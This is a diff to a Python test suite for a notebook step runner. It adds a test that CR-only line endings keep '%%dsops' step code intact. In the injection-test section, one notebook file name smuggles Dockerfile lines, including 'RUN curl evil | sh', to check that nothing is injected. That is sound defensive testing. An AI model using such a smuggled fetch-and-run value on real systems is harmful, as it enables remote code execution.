@@ -229,6 +229,23 @@ def test_cr_line_endings_keep_every_statement_in_its_step(ending: str, repo: Pat
     assert assert_ok(run_python(script, cwd=repo)).stdout == "RAN 1\nafter 1\n"
 
 
+def test_cr_line_endings_run_the_marked_steps_in_the_kernel(repo: Path) -> None:
+    """The runs read the same normalised cells: a CR-only `%%dsops` line keeps its code."""
+    notebook = raw_notebook(
+        repo / "nb.ipynb",
+        [
+            code("%%dsops step load\rx = 20\rprint('load', x)"),
+            code("%%dsops step use\rprint('use', x + 1)"),
+        ],
+    )
+    done = assert_ok(dsops("run", notebook, "--step", "use", "--json", cwd=repo))
+    executed = json.loads(Path(json.loads(done.stdout)["output_notebook"]).read_text())
+    printed = "".join(
+        "".join(out.get("text", "")) for cell in executed["cells"] for out in cell["outputs"]
+    )
+    assert printed == "load 20\nuse 21\n"
+
+
 # --- injection through the notebook file name -----------------------------------------------------
 def test_a_newline_in_the_notebook_name_injects_nothing(repo: Path) -> None:
     name = "wine\nFROM attacker/base:1\nRUN curl evil | sh\n# .ipynb"
